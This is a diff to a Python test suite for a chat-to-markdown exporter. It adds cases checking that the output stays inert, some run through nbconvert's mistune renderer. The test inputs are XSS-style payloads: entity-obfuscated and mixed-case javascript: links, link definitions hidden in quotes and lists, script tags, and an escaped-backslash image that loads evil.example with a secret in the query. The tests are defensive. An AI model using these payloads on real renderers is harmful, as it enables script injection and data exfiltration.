@@ -162,6 +162,12 @@ def test_errors_and_tags_are_literal() -> None:
         "![img](data:text/html;base64,PHNjcmlwdD4=)",
         "[click][ref]\n\n[ref]: vbscript:msgbox(1)",
         "[click][ref]\n\n[ref]:\n  javascript:alert(1)",
+        # Entities some readers decode (even escaped once), and definitions in a quote
+        # or a list item.
+        "[click](jav&#x61;script:alert(1))",
+        "[click](JaVaScRiPt&colon;alert(1))",
+        "> [ref]: javascript:alert(1)\n>\n> [ref]",
+        "- [ref]: javascript:alert(1)\n\n  [ref]",
     ],
 )
 def test_script_links_are_shown_as_text(content: str) -> None:
@@ -274,9 +280,33 @@ def test_no_mix_of_code_spans_and_markup_renders_live(pieces: list[str]) -> None
     [
         "Look: ![chart](http://evil.example/?q=secret)",
         "![chart][r]\n\n[r]: http://evil.example/?q=secret",
+        # A backslash before the "!" that is itself escaped leaves the image live.
+        "see \\\\![chart](http://evil.example/?q=secret)",
     ],
 )
 def test_an_image_is_a_link_not_loaded_on_opening(content: str) -> None:
     rendered = _reply_rendered(content)
     assert "<img" not in rendered
     assert '<a href="http://evil.example/?q=secret">chart</a>' in rendered
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        f"see http://a`{LIVE}`",
+        f"see www.example.org`{LIVE}` too",
+        "http://a```<script>x</script>```",
+    ],
+)
+def test_a_bare_address_before_inline_code_carries_no_markup_to_nbconvert(content: str) -> None:
+    # nbconvert (mistune) makes a bare address a link that runs on into the code span,
+    # so the span's "<" came out raw there.
+    mistune = pytest.importorskip("nbconvert.filters.markdown_mistune")
+    markdown = to_markdown(
+        _conversation(
+            Message(role="user", content="hi"), Message(role="assistant", content=content)
+        )
+    )
+    rendered = mistune.markdown2html_mistune(markdown)
+    assert "<img" not in rendered
+    assert "<script" not in rendered
